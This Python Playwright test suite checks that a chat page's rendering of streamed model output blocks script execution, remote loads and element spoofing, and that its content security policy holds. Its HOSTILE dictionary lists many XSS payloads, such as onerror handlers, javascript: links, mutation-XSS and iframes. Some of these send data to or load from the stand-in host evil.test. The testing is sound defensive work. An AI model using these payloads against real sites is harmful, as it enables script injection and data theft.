"""What a model says can do nothing on the chat page: run, load, send, or pose as a part of the page. In Chromium, where
each text is streamed a few characters at a time, so that every half of it is drawn, too."""

from __future__ import annotations

from collections.abc import AsyncIterator

import pytest
import pytest_asyncio
from playwright.async_api import Browser, Error, expect

from tests.browser import Visitor, visiting
from tests.chat_page import ChatPage, pair_with_page
from tests.fake_runtime import FakeRuntime
from tests.fake_scripts import saying
from tests.waiting import wait_until

pytestmark = pytest.mark.asyncio(loop_scope="module")

RUN = "window.pwned=1"
HOSTILE = {
    "an image that cannot load": f'<img src=x onerror="{RUN}"> and <IMG/SRC=x/ONERROR={RUN}//',
    "links that run": f"[a](javascript:{RUN}) [b](JaVaScRiPt:{RUN}) [c](java&#10;script:{RUN}) <javascript:{RUN}> "
    f"[d][r] [e](&#106;avascript:{RUN}) [f](vbscript:{RUN}) [g](\x01javascript:{RUN})\n\n[r]: javascript:{RUN}",
    "an anchor that runs": f'<a href="javascript:{RUN}" onclick="{RUN}">press me</a>',
    "a script": f"<script>{RUN}</script><script src=http://evil.test/x.js></script>",
    "svg": f"<svg onload={RUN}><script>{RUN}</script><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "math that mutates": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "frames": f'<iframe src="javascript:{RUN}"></iframe><iframe srcdoc="<script>parent.{RUN}</script>"></iframe>'
    "<object data=http://evil.test/></object><embed src=http://evil.test/>",
    "remote images": "![a](http://evil.test/?said=secret) ![b](https://evil.test/b.png) ![c](//evil.test/c) ![d][i]\n\n"
    "[i]: https://evil.test/d.png\n\n<img src=https://evil.test/e><picture><source srcset=//evil.test/f></picture>",
    "data urls": f"[a](data:text/html,<script>{RUN}</script>) ![b](data:image/svg+xml,<svg/onload={RUN}>)"
    ' <a href="data:text/html;base64,PHNjcmlwdD4=">c</a> [d](blob:http://evil.test/1) [e](file:///etc/passwd)',
    "styles": "<style>@import 'http://evil.test/x.css'; * { display: none }</style>"
    '<p style="position:fixed;inset:0;background:url(http://evil.test/y)">over everything</p>'
    "<link rel=stylesheet href=http://evil.test/z.css><link rel=prefetch href=http://evil.test/p>"
    "<link rel=preconnect href=http://evil.test>",
    "a page of its own": "<meta http-equiv=refresh content='0;url=http://evil.test'><base href=http://evil.test/>"
    f"<body onload={RUN}><html onmouseover={RUN}><title>Bank</title>",
    "forms": f"<form action=http://evil.test><input name=x autofocus onfocus={RUN}><button>Send</button></form>"
    f"<details open ontoggle={RUN}>x</details><video poster=http://evil.test/v src=http://evil.test/w onerror={RUN}>",
    "names of the page's own": "<p id=status>Ready</p><form id=composer name=message></form><b id=send class=primary>x"
    "</b><div role=alert aria-live=assertive>Enter your invite code</div>",
    "a code block's language": f'```"><img src=x onerror={RUN}>\ncode\n```\n\n~~~ <svg/onload={RUN}>\ncode\n~~~',
    "a link's title": f'[a](https://ok.test "\\" onmouseover={RUN} x=\\"") [b](https://ok.test/"onfocus="{RUN})',
    "harmless names with more": f'<b onmouseover={RUN}>x</b> <br onload={RUN}> <sub style="x">y</sub> <s\nid=stop>z',
    "comments": f"<!--><img src=x onerror={RUN}>--> <![CDATA[<img src=x onerror={RUN}>]]> <?xml <img onerror={RUN}>?>",
    "a template": f"<template><img src=x onerror={RUN}></template>"
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "a table": f"| a | <img src=x onerror={RUN}> |\n|:-:|---|\n| ![x](http://evil.test/t) | [y](javascript:{RUN}) |",
}
# Judges every element that is ever put into an answer, as it comes, half-written text included. What the model makes
# may have a few attributes; what the page puts around code and tables is known.
WATCH = """() => {
    window.seen = []
    const tags = 'A B BLOCKQUOTE BR CODE DEL EM H3 H4 H5 H6 HR I LI OL P PRE S STRONG SUB SUP U UL'
        .concat(' TABLE TBODY TD TH THEAD TR')
    const names = 'align class href rel start target title'
    const own = 'figure, figcaption, figcaption > span, figcaption > button.copy, div.scroll[role=group]'
    const judge = (node) => {
        if (node.matches(own)) return
        if (!tags.split(' ').includes(node.tagName)) window.seen.push(node.outerHTML)
        for (const { name } of node.attributes) if (!names.split(' ').includes(name)) window.seen.push(node.outerHTML)
        if (node.tagName !== 'A') return
        if (!/^(https|mailto):$/.test(node.protocol)) window.seen.push(node.outerHTML)
        if (node.target !== '_blank' || node.rel !== 'noopener noreferrer') window.seen.push(node.outerHTML)
    }
    new MutationObserver((records) => {
        for (const node of records.flatMap(({ addedNodes }) => [...addedNodes]))
            if (node.matches && node.parentElement?.closest('.prose'))
                for (const one of [node, ...node.querySelectorAll('*')]) judge(one)
    }).observe(document.body, { childList: true, subtree: true })
}"""
Site = tuple[ChatPage, FakeRuntime, Visitor]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def site(chromium: Browser, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Site]:
    """One tab for all."""
    state = tmp_path_factory.mktemp("state")
    plans = {"anonymous": {"requests_per_minute": 1000, "tokens_per_day": 10_000_000}}
    async with (
        FakeRuntime() as runtime,
        pair_with_page(runtime.url, state=state, plans=plans) as pair,
        visiting(chromium) as visitor,
    ):
        page = await ChatPage.open(visitor, pair)
        await page.tab.evaluate(WATCH)
        yield page, runtime, visitor


@pytest.mark.parametrize("name", HOSTILE)
async def test_what_a_model_says_does_nothing(site: Site, name: str) -> None:
    page, runtime, visitor = site
    runtime.script = saying(HOSTILE[name], 3, 0.001)
    await page.tab.evaluate("window.seen = []; delete window.pwned")
    url, title = page.tab.url, await page.tab.title()
    await page.press("New chat") if await page.answers.count() else None
    await page.ask()
    await page.answered()
    for link in await page.text.get_by_role("link").all():
        await link.hover()
    assert await page.tab.evaluate("window.seen") == []
    assert await page.tab.evaluate("window.pwned") is None
    assert (page.tab.url, await page.tab.title(), len(visitor.context.pages)) == (url, title, 1)
    assert await page.tab.locator("#status").count() == await page.tab.locator("#send").count() == 1
    visitor.check()


async def test_what_a_person_says_is_text(site: Site) -> None:
    page, runtime, visitor = site
    runtime.script = "normal"
    for said in (HOSTILE["an image that cannot load"], HOSTILE["an anchor that runs"], "**not** _marked_"):
        await page.ask(said)
        await expect(page.questions.last).to_contain_text(said)
        assert await page.questions.last.locator("p *").count() == 0
        await expect(page.answers.last).to_have_attribute("data-state", "done")
    assert await page.tab.evaluate("window.pwned") is None
    visitor.check()


async def test_what_is_no_harm_is_shown(site: Site) -> None:
    page, runtime, _ = site
    runtime.script = saying(
        "# Head\n\n**bold** _slanted_ `code` ~~gone~~ <b>b</b>\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "```python\nprint(1 < 2)\n```\n\n> quoted\n\n[a link](https://ok.test/x?a=1&b=2) and mail <ann@ok.test>"
    )
    await page.ask()
    await expect(page.answers.last).to_have_attribute("data-state", "done")
    shown = page.text.locator
    await expect(shown("strong")).to_have_text("bold")
    await expect(shown("pre code")).to_have_text("print(1 < 2)\n")
    assert await shown("ol > li").count() == 2
    await expect(shown("td").last).to_have_text("2")
    await expect(shown("blockquote")).to_have_text("quoted")
    assert await shown("a").first.get_attribute("href") == "https://ok.test/x?a=1&b=2"
    assert await shown("a").last.get_attribute("href") == "mailto:ann@ok.test"


async def test_the_page_itself_may_do_none_of_it(visitor: Visitor, site: Site) -> None:
    """The policy holds should all else fail, and these tests would see it."""
    page = ChatPage(await visitor.open(site[0].tab.url))
    with pytest.raises(Error, match="TrustedHTML"):
        await page.tab.evaluate("document.body.innerHTML = '<b>x</b>'")
    await page.tab.evaluate(
        """() => {
            const add = (tag, of) => document.body.append(Object.assign(document.createElement(tag), of))
            add('img', { src: 'http://evil.test/a.png' })
            add('link', { rel: 'stylesheet', href: 'http://evil.test/a.css' })
            return fetch('http://evil.test/').catch(() => 0)
        }"""
    )
    for complaint in ("TrustedHTML", '"img-src', '"style-src', '"connect-src', "Refused to connect"):
        visitor.expects(complaint)
    await wait_until(lambda: len(visitor.complaints) >= 5, what=lambda: visitor.complaints)
    with pytest.raises(AssertionError, match=r"a request left for http://evil\.test/a\.png"):
        visitor.check()
    assert {one.failure for one in visitor.requests if "evil.test" in one.url} == {"csp"}
    visitor.origins.add("http://evil.test")
